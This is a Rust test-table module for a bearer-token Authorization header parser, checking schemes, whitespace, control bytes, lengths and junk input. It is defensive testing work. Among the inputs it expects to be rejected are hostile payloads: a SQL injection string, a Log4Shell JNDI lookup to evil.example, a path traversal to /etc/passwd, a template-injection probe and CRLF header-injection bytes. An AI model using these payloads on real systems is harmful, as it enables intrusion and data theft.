//! What surrounds the token: the header's number, its scheme, its blanks and its length (RFC 6750 §2.1, RFC 9110 §11.4).

use super::{OverHttp, Table, bearer};
use crate::{MAX_HEADER_BYTES, Reason};

pub(super) fn rows(table: &mut Table<'_>) {
    controls(table);
    number(table);
    schemes(table);
    blanks(table);
    foreign_bytes(table);
    lengths(table);
    texts(table);
}

fn controls(table: &mut Table<'_>) {
    let token = table.token().mint();
    table.accepted("control: a good token", &token);
    for (what, before) in [
        ("the scheme in lower case", "bearer "),
        ("the scheme in capitals", "BEARER "),
        ("the scheme in mixed case", "bEaReR "),
        ("several blanks after the scheme", "Bearer    "),
    ] {
        let value = format!("{before}{token}").into_bytes();
        table.push(&format!("control: {what}"), vec![value], None, OverHttp::Arrives);
    }
}

fn number(table: &mut Table<'_>) {
    let good = || bearer(table.token().mint());
    let bad = || bearer(table.token().signed_by(&table.stranger).mint());
    let same = good();
    let rows = [
        ("two good tokens", [good(), good()]),
        ("one good token twice", [same.clone(), same]),
        ("a good token, then a bad one", [good(), bad()]),
        ("a bad token, then a good one", [bad(), good()]),
        ("a good token, then another scheme", [good(), b"Basic YWRhOmFkYQ==".to_vec()]),
        ("another scheme, then a good token", [b"Basic YWRhOmFkYQ==".to_vec(), good()]),
        ("an empty header, then a good token", [Vec::new(), good()]),
        ("a good token, then an empty header", [good(), Vec::new()]),
    ];
    table.push("no Authorization header", Vec::new(), Some(Reason::Missing), OverHttp::Arrives);
    for (name, values) in rows {
        table.push(name, values.to_vec(), Some(Reason::Repeated), OverHttp::Arrives);
    }
}

fn schemes(table: &mut Table<'_>) {
    let token = table.token().mint();
    let others =
        ["Basic", "DPoP", "MAC", "Token", "JWT", "Digest", "Negotiate", "Access", "Bearer2", "earer"];
    let mut rows: Vec<_> = others
        .into_iter()
        .map(|scheme| (format!("a good token under the scheme {scheme}"), format!("{scheme} {token}")))
        .collect();
    rows.extend(
        [
            ("a good token without a scheme", token.clone()),
            ("no blank after the scheme", format!("Bearer{token}")),
            ("a colon after the scheme", format!("Bearer: {token}")),
            ("an equals sign after the scheme", format!("Bearer={token}")),
            ("a comma after the scheme", format!("Bearer, {token}")),
            ("the scheme in quotes", format!("\"Bearer\" {token}")),
            ("the scheme in full-width letters", format!("Ｂｅａｒｅｒ {token}")),
            ("the token before the scheme", format!("{token} Bearer")),
            ("another scheme in front", format!("Basic YWRh, Bearer {token}")),
            ("an empty header", String::new()),
        ]
        .map(|(name, value)| (name.to_owned(), value)),
    );
    for (name, value) in rows {
        table.push(&name, vec![value.into_bytes()], Some(Reason::OtherScheme), OverHttp::Arrives);
    }
}

fn blanks(table: &mut Table<'_>) {
    let token = table.token().mint();
    let good = format!("Bearer {token}");
    for (name, value, reason) in [
        ("a blank before the scheme", format!(" {good}"), Reason::OtherScheme),
        ("a tab before the scheme", format!("\t{good}"), Reason::OtherScheme),
        ("a blank after the token", format!("{good} "), Reason::Malformed),
        ("many blanks after the token", format!("{good}      "), Reason::Malformed),
        ("a tab after the token", format!("{good}\t"), Reason::Malformed),
        ("blanks around it all", format!("  {good}  "), Reason::OtherScheme),
    ] {
        table.push(name, vec![value.into_bytes()], Some(reason), OverHttp::Trimmed);
    }
    for (name, value, reason) in [
        ("a tab instead of the blank", format!("Bearer\t{token}"), Reason::OtherScheme),
        ("a tab after the blank", format!("Bearer \t{token}"), Reason::Malformed),
        ("a no-break space instead of the blank", format!("Bearer\u{a0}{token}"), Reason::OtherScheme),
        ("a no-break space after the token", format!("{good}\u{a0}"), Reason::Malformed),
        ("the scheme alone", "Bearer".to_owned(), Reason::Malformed),
        ("the scheme and a blank", "Bearer ".to_owned(), Reason::Malformed),
        ("the scheme and many blanks", format!("Bearer{}", " ".repeat(1000)), Reason::Malformed),
        ("two tokens with a comma", format!("{good},{token}"), Reason::Malformed),
        ("two credentials with a comma", format!("{good}, {good}"), Reason::Malformed),
        ("two tokens with a blank", format!("{good} {token}"), Reason::Malformed),
        ("the scheme twice", format!("Bearer {good}"), Reason::Malformed),
        ("the token in quotes", format!("Bearer \"{token}\""), Reason::Malformed),
        ("the token as a parameter", format!("Bearer token={token}"), Reason::Malformed),
        ("a parameter after the token", format!("{good}, realm=\"x\""), Reason::Malformed),
        ("the token in angle brackets", format!("Bearer <{token}>"), Reason::Malformed),
    ] {
        table.push(name, vec![value.into_bytes()], Some(reason), OverHttp::Arrives);
    }
}

/// Bytes that have no place in a header's value or in a token, wherever they are put.
fn foreign_bytes(table: &mut Table<'_>) {
    let token = table.token().mint();
    let (start, end) = token.split_at(token.len() / 2);
    for (what, bytes, over_http) in [
        ("NUL", &b"\0"[..], OverHttp::MayNotArrive),
        ("DEL", b"\x7f", OverHttp::MayNotArrive),
        ("a carriage return", b"\r", OverHttp::MayNotArrive),
        ("a line break", b"\n", OverHttp::MayNotArrive),
        ("a line break of two bytes", b"\r\n", OverHttp::MayNotArrive),
        ("a folded line", b"\r\n ", OverHttp::MayNotArrive),
        ("the byte FF", b"\xff", OverHttp::Arrives),
        ("half a character", b"\xe2\x82", OverHttp::Arrives),
        ("a byte order mark", b"\xef\xbb\xbf", OverHttp::Arrives),
        ("a zero-width space", b"\xe2\x80\x8b", OverHttp::Arrives),
    ] {
        let places = [
            ("before the scheme", "", "Bearer ", token.as_str(), Reason::OtherScheme),
            ("in the scheme", "Bea", "rer ", token.as_str(), Reason::OtherScheme),
            ("before the token", "Bearer ", token.as_str(), "", Reason::Malformed),
            ("in the token", &format!("Bearer {start}"), end, "", Reason::Malformed),
            ("after the token", &format!("Bearer {token}"), "", "", Reason::Malformed),
        ];
        for (place, before, after, last, reason) in places {
            let value = [before.as_bytes(), bytes, after.as_bytes(), last.as_bytes()].concat();
            // At the very end it would end the line, and what is left of it is a good token.
            let over_http = if value.ends_with(b"\n") { OverHttp::NeverArrives } else { over_http };
            table.push(&format!("{what} {place}"), vec![value], Some(reason), over_http);
        }
    }
    for (what, inside) in [("a tab", "\t"), ("a blank", " "), ("three blanks", "   ")] {
        table.refused(&format!("{what} in the token"), format!("{start}{inside}{end}"), Reason::Malformed);
    }
}

fn lengths(table: &mut Table<'_>) {
    let padded = |bytes: usize| table.token().claim("padding", "x".repeat(bytes).into()).mint();
    let (nine, sixty_four) = (padded(9 * 1024 * 3 / 4), padded(64 * 1024 * 3 / 4));
    table.refused("a token of more than 9 KiB, well signed", nine, Reason::TooLong);
    table.push(
        "a token of more than 64 KiB, well signed",
        vec![bearer(sixty_four)],
        Some(Reason::TooLong),
        OverHttp::MayNotArrive,
    );
    let blanks = format!("Bearer{}{}", " ".repeat(64 * 1024), table.token().mint());
    table.push("64 KiB of blanks", vec![blanks.into_bytes()], Some(Reason::TooLong), OverHttp::MayNotArrive);
    let letters = |bytes: usize| "A".repeat(bytes - "Bearer ".len());
    table.refused("as long as a header may be", letters(MAX_HEADER_BYTES), Reason::Malformed);
    table.refused("a byte longer than that", letters(MAX_HEADER_BYTES + 1), Reason::TooLong);
    table.refused("nothing but dots", ".".repeat(8000), Reason::Malformed);
}

/// What is no token at all.
fn texts(table: &mut Table<'_>) {
    for text in [
        "x",
        "null",
        "undefined",
        "{}",
        "[object Object]",
        "..",
        ".....",
        "<html>",
        "' OR 1=1 --",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "%00",
        "{{7*7}}",
        "0190b5d2-77aa-7000-8000-000000000000",
    ] {
        table.refused(&format!("the text {text}"), text, Reason::Malformed);
    }
    let refresh = "rt1_AZC10neqcACAAAAAAAAAAAAAAAAHdGhlLW1hYy1vZi1hLXJlZnJlc2gtdG9rZW4tZ29lcy1oZXJlAAAA";
    table.refused("what looks like a refresh token", refresh, Reason::Malformed);
}
